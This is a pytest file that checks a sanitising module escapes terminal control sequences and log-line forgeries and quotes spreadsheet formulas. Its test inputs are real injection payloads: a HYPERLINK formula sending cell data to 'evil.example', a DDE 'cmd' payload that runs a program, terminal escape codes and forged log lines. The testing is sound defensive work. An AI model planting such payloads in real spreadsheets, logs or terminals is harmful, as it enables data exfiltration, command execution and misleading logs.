"""Text that would steer a terminal, forge a line of a log, or run in a spreadsheet."""

from __future__ import annotations

import io
import logging

import pytest

from prov_worker.printable import LineFormatter, cell, line, plain

STEERING = "\x1b]0;pwned\x07\x1b[31m"


def test_what_would_steer_a_terminal_is_shown() -> None:
    assert plain(f"a{STEERING}b\tc\nd") == "a\\x1b]0;pwned\\x07\\x1b[31mb\tc\nd"
    assert plain("\u202egnp.exe\u2028") == "\\u202egnp.exe\\u2028"
    assert line("a\nb\tc\rd") == "a\\nb\\tc\\rd"
    assert plain("Zoë, 1 µs – ok") == "Zoë, 1 µs – ok"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/"&A1,"x")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1",
        "\r=1",
        "  =1",
        "＝1",
    ],
)
def test_a_formula_is_quoted(text: str) -> None:
    assert cell(text) == f"'{line(text)}"


@pytest.mark.parametrize("value", ["-1.5", "+3", "-2e-05", "plain", "a=b", "", -1.5, 7, None, True])
def test_what_is_no_formula_stays(value: object) -> None:
    assert cell(value) == value


def test_a_record_of_a_log_is_one_line() -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(LineFormatter("%(levelname)s %(name)s: %(message)s"))
    log = logging.Logger("service")
    log.addHandler(handler)
    log.warning("endpoint said: %s", f"{STEERING}no\nERROR service: forged")
    try:
        raise ValueError(f"{STEERING}\nERROR service: forged")
    except ValueError:
        log.exception("a task failed")
    lines = stream.getvalue().splitlines()
    assert lines[0] == "WARNING service: endpoint said: \\x1b]0;pwned\\x07\\x1b[31mno\\nERROR service: forged"
    assert lines[1] == "ERROR service: a task failed"
    assert all(text.startswith("  ") for text in lines[2:])
    assert "\x1b" not in stream.getvalue()
